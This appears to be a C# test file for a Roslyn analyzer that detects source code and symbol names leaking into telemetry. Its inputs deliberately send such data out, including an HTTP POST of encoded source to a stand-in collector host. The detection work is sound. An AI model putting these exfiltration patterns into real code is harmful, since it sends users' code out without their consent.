using System.Threading.Tasks;
using Xunit;
using static ExfilAnalyzers.Tests.Verifiers.FlowVerifier;

namespace ExfilAnalyzers.Tests.Flow;

/// <summary>Strings built from sensitive data stay sensitive; their lengths do not.</summary>
public class StringFlowTests
{
    private const string Usings = """
        using System;
        using System.Text;
        using Microsoft.ApplicationInsights;
        using Microsoft.CodeAnalysis;

        """;

    [Fact]
    public Task Concatenation_and_interpolation()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Report(TelemetryClient client, ISymbol symbol)
                {
                    var name = symbol.Name;
                    client.TrackEvent({|EXF1002:"symbol:" + name|});
                    client.TrackEvent({|EXF1002:$"symbol {name}!"|});
                    var message = "a";
                    message += name;
                    client.TrackEvent({|EXF1002:message|});
                }
            }
            """);
    }

    [Fact]
    public Task Concatenation_of_constants_and_counts_is_clean()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Report(TelemetryClient client, ISymbol symbol, SyntaxNode node)
                {
                    client.TrackEvent("length:" + symbol.Name.Length);
                    client.TrackEvent($"nodes: {node.DescendantNodes().GetHashCode()} kind {nameof(ISymbol)}");
                }
            }
            """);
    }

    [Fact]
    public Task Format_concat_and_join()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Report(TelemetryClient client, ISymbol symbol, ISymbol other)
                {
                    client.TrackEvent({|EXF1002:string.Format("{0}-{1}", symbol.Name, 1)|});
                    client.TrackEvent({|EXF1002:string.Concat("x", other.MetadataName)|});
                    client.TrackEvent({|EXF1002:string.Join(",", new[] { symbol.Name, "y" })|});
                }
            }
            """);
    }

    [Fact]
    public Task StringBuilder_collects_what_is_appended()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Report(TelemetryClient client, ISymbol symbol, SyntaxNode node)
                {
                    var builder = new StringBuilder();
                    builder.Append("symbol ");
                    builder.AppendLine(symbol.Name);
                    client.TrackEvent({|EXF1002:builder.ToString()|});

                    var code = new StringBuilder("x");
                    code.AppendFormat("{0}", node.ToFullString()).Insert(0, "code: ");
                    client.TrackEvent({|EXF1001:code.ToString()|});
                }
            }
            """);
    }

    /// <summary>
    /// Append returns its builder, so a chain appends every link to it, however the chain reaches it: the
    /// builder itself, the capture the graph makes of a chain with a branch, or another name for the result.
    /// </summary>
    [Fact]
    public Task Every_link_of_a_fluent_chain_goes_into_the_builder()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Direct(TelemetryClient client, SyntaxNode node)
                {
                    var builder = new StringBuilder();
                    builder.Append("node: ").Append(node.ToFullString()).AppendLine();
                    client.TrackTrace({|EXF1001:builder.ToString()|});
                }

                void ThroughACapture(TelemetryClient client, SyntaxNode node, bool verbose)
                {
                    var builder = new StringBuilder();
                    builder.Append(verbose ? "node: " : "n: ").Append(node.ToFullString());
                    client.TrackTrace({|EXF1001:builder.ToString()|});
                }

                void ThroughAnotherName(TelemetryClient client, ISymbol symbol)
                {
                    var builder = new StringBuilder();
                    var line = builder.Append("symbol: ");
                    line.Append(symbol.Name);
                    client.TrackEvent({|EXF1002:builder.ToString()|});
                }

                void OfConstants(TelemetryClient client, ISymbol symbol)
                {
                    var builder = new StringBuilder();
                    builder.Append("kind: ").Append(symbol.Kind.ToString().Length).AppendLine();
                    client.TrackEvent(builder.ToString());
                }
            }
            """);
    }

    [Fact]
    public Task StringBuilder_of_constants_is_clean()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Report(TelemetryClient client, ISymbol symbol)
                {
                    var builder = new StringBuilder();
                    builder.Append("count ").Append(symbol.Name.Length);
                    client.TrackEvent(builder.ToString());
                    client.TrackEvent("length " + builder.Length);
                }
            }
            """);
    }

    [Fact]
    public Task String_transforms_keep_the_data()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Report(TelemetryClient client, SyntaxNode node)
                {
                    var code = node.ToString();
                    client.TrackEvent({|EXF1001:code.Substring(0, 10).Trim().ToUpperInvariant()|});
                    client.TrackEvent({|EXF1001:code.Replace("a", "b").PadLeft(40)|});
                    var parts = code.Split('\n');
                    client.TrackEvent({|EXF1001:parts[0]|});
                    client.TrackEvent({|EXF1001:code.ToLower().Normalize()|});
                }
            }
            """);
    }

    [Fact]
    public Task Lengths_positions_and_comparisons_are_clean()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Report(TelemetryClient client, SyntaxNode node)
                {
                    var code = node.ToString();
                    client.TrackEvent(code.Length.ToString());
                    client.TrackEvent(code.Split('\n').Length.ToString());
                    client.TrackEvent(code.IndexOf("x").ToString());
                    client.TrackEvent(string.IsNullOrEmpty(code).ToString());
                }
            }
            """);
    }

    [Fact]
    public Task Bytes_of_the_text_are_the_text()
    {
        return VerifyAsync(Usings + """
            using System.Net.Http;
            class Agent
            {
                async System.Threading.Tasks.Task Report(HttpClient http, SyntaxNode node)
                {
                    var bytes = Encoding.UTF8.GetBytes(node.ToString());
                    await http.PostAsync("https://collector.example.net/upload", {|EXF1001:{|EXF1006:new ByteArrayContent(bytes)|}|});
                }
            }
            """);
    }

    [Fact]
    public Task Base64_of_the_text_is_still_the_text()
    {
        return VerifyAsync(Usings + """
            class Agent
            {
                void Report(TelemetryClient client, SyntaxNode node)
                {
                    var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(node.ToString()));
                    client.TrackEvent({|EXF1001:{|EXF1005:encoded|}|});
                }
            }
            """);
    }
}
